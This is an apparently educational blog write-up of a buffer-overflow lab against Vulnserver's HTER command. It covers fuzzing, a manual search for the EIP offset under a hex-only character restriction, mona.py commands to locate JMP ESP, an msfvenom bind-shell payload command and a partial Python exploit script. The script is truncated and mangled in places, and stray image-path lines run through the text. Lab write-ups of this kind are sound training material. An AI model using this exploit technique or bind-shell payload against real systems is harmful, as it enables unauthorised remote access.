[ExpDev] Vulnserver — Part 5

Vulnserver — Part 5 (HTER — EIP Overwrite)

This will be the 5th vulnserver exploit series. We will be fuzzing and exploiting the vulnerable command HTER this time. We will identify a crash point with an EIP overwrite. And then we need to identify the restricted characters to the HTER command exploit. Then, we will leverage an old-fashion of manual approach to identify the offset. Finally, we will introduce our shellcode to finally get a bind shell. Let’s get started!

Lab Environment

  • OS: Windows 7 (x86)
  • Debugger: OllyDbg, WinDbg (mona.py)
  • Fuzzer: boofuzz
  • Target: Vulnserver — HTER command (EIP Overwrite + Restricted Characters)

*Detailed lab setup guide can be found here

  • [ExpDev] Vulnserver — Part 1.”

Initial Recon

Let’s quickly check what the HTER command does.

HTER Command


Since we have the previously created fuzzing script from the Part 1, we can just make small changes in that script for our fuzzer for the HTER command.

Source: fuzz_hter.py by bigb0ssAs usual, let’s attach the vulnserver with the OllyDbg. Then, run our fuzzer.

### Running the Fuzzer
C:\Users\bigb0ss\Desktop\scripts\HTER>python fuzz_hter.py

A few seconds after running our fuzzing script, the vulnserver was crashed. From the crash in OllyDbg, we can clearly see that the HTER command and the certain number of the characters caused the crash.

Initial Crash

Again, in order to identify how many characters caused the initial crash, we need to analyze the results from the Boofuzz. After counting the approximate characters of “C” \x43 in the OllyDbg at the crash time and looking at the “DB Browser” we can choose 2053 bytes for the initial crash.DB Browser Analysis


Let’s create a python script to reproduce the crash.

Source: crash_hter.py by bigb0ss

Start the vulnserver and attach it to OllyDbg. Then, run the crash_hter.py script. We successfully reproduced the crash with our PoC script.

Reproducing the Crash

One interesting to note here is that the character “A” (\x41) that we sent was still displayed as “AAAAAAAA” on the stack instead of “41414141.” This might indicate that the HTER command does something different for how it accepts characters.

Our next step is to typically find an offset to control the EIP at the crash time. Let’s first create 2053 unique characters. We will use the WinDbg and mona.py’s pattern_create module to do this.

Once running the WinDbg, type the following command to load the python module and create the patterns.

### Loading Python Extension of WinDbg
.load pykd.pyd
### Mona.py Pattern_create
!py mona pattern_create 2053
Creating cyclic pattern of 2053 bytes
[+] Preparing output file 'pattern.txt'

Let’s update our PoC script with the created patterns and run the script against the vulnserver again.

Pattern_create Attempt

However, we don’t get a crash this time. Looks like we have some restricted/bad characters within the pattern created. We need to dig-in to identify which characters are restricted.

Idid some trial-and-error based analysis on what characters are allowed to the HTER command. And here are things I have identified:

  • After the “HTER ” command, it will strip the command as well as the next 1 byte of the character. For example, If I send “HTER 12345,” we will only see “2345.”
  • It also only accepts hexdecimal (= 0123456789abcdef). So for example, if we are trying to crash the application via sending 2053 of “G”s, it wouldn’t work. That was why the characters created by pattern_create didn’t work earlier.

From our analysis on the restricted characters, the pattern_create wouldn’t be useful in order to find the offset value. Unfortunately, we might need to use an old-fashion of manual approach to find the offset.

Let’s update our PoC script for the manual approach of identifying the offset.


The EIP is overwritten by “B”s, meaning our offset will reside somewhere in after the 1026 character set. Let’s continue on our process.


The EIP is now overwritten by “C”s, meaning our offset will reside somewhere in after the 1539 character set. Let’s continue on our process.

The EIP is now overwritten by “C”s, meaning our offset will reside somewhere in after the 1795 character set. Let’s continue on our process.

The EIP is again overwritten by “C”s, meaning our offset will reside somewhere in after the 1923 character set. Let’s continue on our process.

The EIP is again overwritten by “C”s, meaning our offset will reside somewhere in after the 1987 character set. Let’s continue on our process.

The EIP is again overwritten by “C”s, meaning our offset will reside somewhere in after the 2019 character set. Let’s continue on our process.

The EIP is again overwritten by “C”s, meaning our offset will reside somewhere in after the 2035 character set. Let’s continue on our process.

We now have some feasible results to identify the offset. The EIP is now overwritten by “BBBCCCCC.” If we do a simple calculation to subtract 3 “B”s from 8 and add 6 to 2035, we can find the offset as 2040. Let’s update our PoC script and confirm the found offset value.

Source: offset_hter.py by bigb0ss
Confirming the OffsetThe offset was indeed correct. Now, we are all set to control the EIP at the crash time.

As an usual EIP overwrite BOF exploit, we now need to find a JMP ESP instruction within the application.

Let’s attach the vulnserver to WinDbg this time so that we can use the mona.py to find the JMP ESP within the application’s dll. We will use -cpb flag again to exclude any addresses containing \x00. (By default, it also searches in Non-ASLR or Non-Rebase modules.)

### Loading Python Extension of WinDbg
.load pykd.pyd
### Mona.py Finding JMP ESP
!py mona jmp -r esp -cpb '\x00'
Finding JMP ESP (0x62501205)

Let’s use one of the addresses, 0x62501205 for the JMP ESP address.

Now let’s use msfvenom to create our bind shell shellcode. But now instead of using the python format, let’s change it to hex format.

###msfvenom Bind Shell
$ msfvenom -p windows/shell_bind_tcp LPORT=443 -b '\x00' EXITFUNC=thread -f hex
(*I used a x86 Kali Linux to create the shellcode)[-] No platform was selected, choosing Msf::Module::Platform::Windows from the payload
[-] No arch selected, selecting arch: x86 from the payload
Found 11 compatible encoders
Attempting to encode payload with 1 iterations of x86/shikata_ga_nai
x86/shikata_ga_nai succeeded with size 355 (iteration=0)
x86/shikata_ga_nai chosen with final size 355
Payload size: 355 bytes
Final size of hex file: 710 bytes

And let’s finalize our PoC script with the created payload. Also, add some Nopsled (\x90) before the payload so that our shellcode can be added to the stack properly.

### Final_hter.py (Source by bigb0ss)import socket
import os
import sys
vuln_command = "HTER A"
crash = 2052
offset = 2040
eip = "05125062" # JMP ESP 0x62501205
shellcode = (
payload = ""
payload += vuln_command
payload += "A" * offset
payload += eip
payload += "90" * 10
payload += shellcode
payload += "C" * 10
print "[+] Sending buffer (Size: %d)" % len(payload)s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)s.connect(('', 9999))

Once we run the final_hter.py script, we can successfully open up the bind shell on the port 443.

Successful Bins Shell


For the recap:

  1. We fuzzed the vulnserver HTER command
  2. Found theentry point with vulnerable command of HTER
  3. Found the restricted characters (Only hexdecimal allowed)
  4. Found the offset to control over EIP overwrite with manual approach
  5. Found the JMP ESP address
  6. Introduced hex format of the bind shellcode

Hope you also learned something from it. Thanks for reading!

OSCE | OSCP | CREST | Offensive Security Consultant — All about Penetration Test | Red Team | Cloud Security | WebApplication Security

Get the Medium app

A button that says 'Download on the App Store', and if clicked it will lead you to the iOS App store
A button that says 'Get it on, Google Play', and if clicked it will lead you to the Google Play store